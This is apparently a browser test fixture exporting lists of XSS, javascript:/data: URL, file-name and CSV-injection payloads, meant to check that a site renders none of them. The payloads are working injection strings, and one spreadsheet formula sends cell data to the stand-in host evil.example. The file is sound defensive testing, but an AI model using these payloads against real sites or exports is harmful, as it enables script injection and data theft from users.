// Script and markup injection payloads for the browser tests (issue 8): each would run, open a
// dialog or change the page if anything rendered it as HTML, as a URL or as CSS. Each that can
// run sets window.pwned (or calls alert), so a test can tell that none did.

/** Text for post bodies and author names: HTML, attributes, SVG, templates, CSS, unicode tricks. */
export const TEXT_PAYLOADS = [
  '<script>window.pwned = "script"</script>',
  '<img src=x onerror="window.pwned = \'img onerror\'">',
  '"><img src=x onerror=window.pwned="attribute break-out">',
  "' onmouseover='window.pwned = \"single-quoted attribute\"' x='",
  '<svg onload="window.pwned = \'svg onload\'"></svg>',
  '<svg><animate onbegin="window.pwned = \'svg animate\'" attributeName=x dur=1s></svg>',
  '<iframe src="javascript:parent.pwned = \'iframe\'"></iframe>',
  '<iframe srcdoc="<script>parent.pwned = \'srcdoc\'</script>"></iframe>',
  '<a href="javascript:window.pwned = \'link\'">click me</a>',
  '<details open ontoggle="window.pwned = \'details ontoggle\'">',
  '<input autofocus onfocus="window.pwned = \'autofocus\'">',
  '<body onload="window.pwned = \'body onload\'">',
  '<object data="javascript:window.pwned = \'object\'"></object>',
  '<embed src="javascript:window.pwned = \'embed\'">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = \'mXSS\'">',
  '<!--<img src="--><img src=x onerror="window.pwned = \'comment confusion\'">',
  '<scr<script>ipt>window.pwned = "nested tag"</scr</script>ipt>',
  '</textarea><script>window.pwned = "textarea break-out"</script>',
  '</title></style></script><script>window.pwned = "context break-out"</script>',
  '<template><img src=x onerror="window.pwned = \'template\'"></template>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned = \'meta refresh\'">',
  '<base href="javascript:window.pwned = \'base\'//">',
  '<link rel="stylesheet" href="data:text/css,*{display:none!important}">',
  '<style>*{display:none !important} loop-score{visibility:hidden}</style>',
  'x{}*{background:url("javascript:window.pwned=\'css url\'")} :host{display:none}',
  '${window.pwned = "template literal"}',
  '{{constructor.constructor("window.pwned = \'angular\'")()}}',
  '<%= window.pwned = "erb" %> #{window.pwned = "ruby"}',
  '\u202e<img src=x onerror="window.pwned = \'rtl override\'">\u202c',
  '\uff1cscript\uff1ewindow.pwned = "fullwidth"\uff1c/script\uff1e',
  'z\u200b<\u200bscript>window.pwned = "zero-width"</script>',
  '&lt;script&gt;window.pwned = "entities"&lt;/script&gt; &amp; &#60;b&#62;',
  'javascript:window.pwned = "bare url text"',
];

/** Values for a post's `url`: only http(s) may ever become a link. */
export const URL_PAYLOADS = [
  'javascript:window.pwned = "url"',
  'JaVaScRiPt:window.pwned = "mixed case url"',
  ' \tjavascript:window.pwned = "padded url"',
  'java\tscript:window.pwned = "tab in scheme"',
  'data:text/html,<script>window.pwned = "data url"</script>',
  'vbscript:msgbox("pwned")',
  'https://example.com/"><script>window.pwned = "quoted https"</script>',
];

/** File names a visitor's files might carry (no "/": a file name cannot hold one). */
export const FILE_NAME_PAYLOADS = [
  '<img src=x onerror=window.pwned=1>.jsonl',
  '"><svg onload=window.pwned=2>.jsonl',
];

/** Spreadsheet formulas (CSV injection) as post text: each must be made inert in the export. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];
